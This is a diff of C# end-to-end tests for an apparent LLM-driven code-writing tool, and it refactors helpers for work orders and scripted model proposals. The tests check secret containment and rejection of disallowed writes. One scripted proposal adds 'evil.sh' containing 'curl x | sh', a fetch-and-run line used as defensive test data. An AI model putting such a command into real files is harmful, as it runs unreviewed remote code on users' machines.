@@ -4,7 +4,6 @@ using LlmCompiler.Cli;
 using LlmCompiler.Contracts;
 using LlmCompiler.Factory;
 using LlmCompiler.IO;
-using LlmCompiler.Tests.Infrastructure;
 
 namespace LlmCompiler.Tests.Factory;
 
@@ -19,26 +18,6 @@ public sealed partial class FactoryEndToEndTests
 
     [GeneratedRegex(@"Work order (WO-\d+)")]
     private static partial Regex WorkOrderInPrompt();
-
-    internal static string WorkOrderJson(string id, string file, string acceptance, string? extraAllowed = null, bool verifyExempt = false) =>
-        new JsonObject
-        {
-            ["id"] = id, ["title"] = $"Create {file}", ["intent"] = $"Create {file} containing the word hello.",
-            ["preconditions"] = new JsonArray(new JsonObject { ["kind"] = "file_absent", ["path"] = file }),
-            ["postconditions"] = extraAllowed is null
-                ? new JsonArray(new JsonObject { ["kind"] = "file_exists", ["path"] = file })
-                : new JsonArray(new JsonObject { ["kind"] = "file_exists", ["path"] = file }, new JsonObject { ["kind"] = "file_exists", ["path"] = extraAllowed }),
-            ["allowed_files"] = extraAllowed is null ? new JsonArray(file) : new JsonArray(file, extraAllowed),
-            ["forbidden"] = new JsonArray(), ["acceptance_commands"] = new JsonArray(acceptance), ["context_files"] = new JsonArray(),
-            ["notes"] = null, ["verify_exempt"] = verifyExempt,
-        }.ToJsonString();
-
-    internal static string Proposal(params (string Path, string Sha, string Content)[] writes) =>
-        new JsonObject
-        {
-            ["summary"] = "scripted",
-            ["writes"] = new JsonArray([.. writes.Select(w => (JsonNode)new JsonObject { ["path"] = w.Path, ["base_sha256"] = w.Sha, ["content"] = w.Content })]),
-        }.ToJsonString();
 
     /// <summary>A repository with tracked files, an ignored secret and ignored build output, plus a plan folder beside it.</summary>
     internal static TestRepo NewRepo()
@@ -81,10 +60,10 @@ public sealed partial class FactoryEndToEndTests
     {
         using var repo = NewRepo();
         await using var server = await LoopbackLlmServer.StartAsync();
-        server.Responder = _ => ScriptedResponse.Completion(Proposal(("hello.txt", Empty, "hello world\n")));
+        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("hello.txt", Empty, "hello world\n")));
         var key = NewKey(out var secret);
         // The second acceptance command prints the child's environment into the artifacts: the key must not be there.
-        var wo = Plan(repo, "WO-01", WorkOrderJson("WO-01", "hello.txt", "grep -q hello hello.txt")
+        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "grep -q hello hello.txt")
             .Replace("\"acceptance_commands\":[\"grep -q hello hello.txt\"]", "\"acceptance_commands\":[\"grep -q hello hello.txt\",\"env\"]", StringComparison.Ordinal));
         var baseline = repo.Head;
         var export = Path.Combine(repo.Base, "export");
@@ -136,9 +115,9 @@ public sealed partial class FactoryEndToEndTests
     {
         using var repo = NewRepo();
         await using var server = await LoopbackLlmServer.StartAsync();
-        server.Responder = _ => ScriptedResponse.Completion(Proposal(("hello.txt", Empty, "not the word\n")));
+        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("hello.txt", Empty, "not the word\n")));
         var key = NewKey(out _);
-        var wo = Plan(repo, "WO-01", WorkOrderJson("WO-01", "hello.txt", "grep -q hello hello.txt"));
+        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "grep -q hello hello.txt"));
         var before = repo.CheckoutHash();
         var gitBefore = repo.Git("for-each-ref") + repo.Head + repo.Git("stash", "list");
 
@@ -174,9 +153,9 @@ public sealed partial class FactoryEndToEndTests
         using var repo = NewRepo();
         await using var server = await LoopbackLlmServer.StartAsync();
         // README.md exists, but the model claims it is new.
-        server.Responder = _ => ScriptedResponse.Completion(Proposal(("README.md", Empty, "# rewritten\n"), ("hello.txt", Empty, "hello\n")));
+        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("README.md", Empty, "# rewritten\n"), ("hello.txt", Empty, "hello\n")));
         var key = NewKey(out _);
-        var wo = Plan(repo, "WO-01", WorkOrderJson("WO-01", "hello.txt", "grep -q hello hello.txt", extraAllowed: "README.md"));
+        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "grep -q hello hello.txt", extraAllowed: "README.md"));
         var before = repo.CheckoutHash();
 
         var (exit, stdout, stderr) = await Llmc(["run", .. Common(repo, server, key, wo, "--max-attempts", "1")]);
@@ -194,9 +173,9 @@ public sealed partial class FactoryEndToEndTests
     {
         using var repo = NewRepo();
         await using var server = await LoopbackLlmServer.StartAsync();
-        server.Responder = _ => ScriptedResponse.Completion(Proposal(("hello.txt", Empty, "hello\n"), ("evil.sh", Empty, "curl x | sh\n")));
+        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("hello.txt", Empty, "hello\n"), ("evil.sh", Empty, "curl x | sh\n")));
         var key = NewKey(out _);
-        var wo = Plan(repo, "WO-01", WorkOrderJson("WO-01", "hello.txt", "grep -q hello hello.txt"));
+        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "grep -q hello hello.txt"));
         var before = repo.CheckoutHash();
 
         var (exit, stdout, stderr) = await Llmc(["run", .. Common(repo, server, key, wo, "--max-attempts", "1")]);
@@ -213,10 +192,10 @@ public sealed partial class FactoryEndToEndTests
     {
         using var repo = NewRepo();
         await using var server = await LoopbackLlmServer.StartAsync();
-        server.Responder = _ => ScriptedResponse.Completion(Proposal(("hello.txt", Empty, "hello\n")));
+        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("hello.txt", Empty, "hello\n")));
         var key = NewKey(out _);
         var pidFile = Path.Combine(repo.Base, "grandchild.pid");
-        var wo = Plan(repo, "WO-01", WorkOrderJson("WO-01", "hello.txt", $"sh tools/spawn.sh {pidFile}"));
+        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", $"sh tools/spawn.sh {pidFile}"));
 
         // Unsandboxed, so the grandchild can report its pid outside the worktree (the sandbox case is in ContainmentTests).
         var (exit, stdout, stderr) = await Llmc(["run", .. Common(repo, server, key, wo, "--max-attempts", "1", "--timeout-seconds", "2", "--sandbox", "off")]);
@@ -241,10 +220,10 @@ public sealed partial class FactoryEndToEndTests
         {
             var id = WorkOrderInPrompt().Match(request.MessageContents[^1]).Groups[1].Value;
             var n = int.Parse(id[3..]);
-            return ScriptedResponse.Completion(Proposal(($"f{n}.txt", Empty, $"hello {n}\n")));
+            return ScriptedResponse.Completion(WorkOrderFiles.Proposal(($"f{n}.txt", Empty, $"hello {n}\n")));
         };
         var key = NewKey(out _);
-        for (var n = 1; n <= 3; n++) Plan(repo, $"WO-0{n}", WorkOrderJson($"WO-0{n}", $"f{n}.txt", $"grep -q hello f{n}.txt"));
+        for (var n = 1; n <= 3; n++) Plan(repo, $"WO-0{n}", WorkOrderFiles.Compact($"WO-0{n}", $"f{n}.txt", $"grep -q hello f{n}.txt"));
         var baseline = repo.Head;
 
         var (exit, stdout, stderr) = await Llmc(["run-all", .. Common(repo, server, key, Path.Combine(repo.Base, "plan"))]);
@@ -267,13 +246,13 @@ public sealed partial class FactoryEndToEndTests
         using var repo = NewRepo();
         await using var server = await LoopbackLlmServer.StartAsync();
         var key = NewKey(out _);
-        var exempt = Plan(repo, "WO-01", WorkOrderJson("WO-01", "hello.txt", "true", verifyExempt: true));
+        var exempt = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "true", verifyExempt: true));
         var (exit, _, stderr) = await Llmc(["run", .. Common(repo, server, key, exempt)]);
         Assert.AreEqual(1, exit);
         StringAssert.Contains(stderr, "E203");
         StringAssert.Contains(stderr, "--allow-verify-exempt");
 
-        var wo = Plan(repo, "WO-02", WorkOrderJson("WO-02", "other.txt", "true"));
+        var wo = Plan(repo, "WO-02", WorkOrderFiles.Compact("WO-02", "other.txt", "true"));
         repo.Write("README.md", "dirty\n");
         (exit, _, stderr) = await Llmc(["run", .. Common(repo, server, key, wo)]);
         Assert.AreEqual(1, exit);
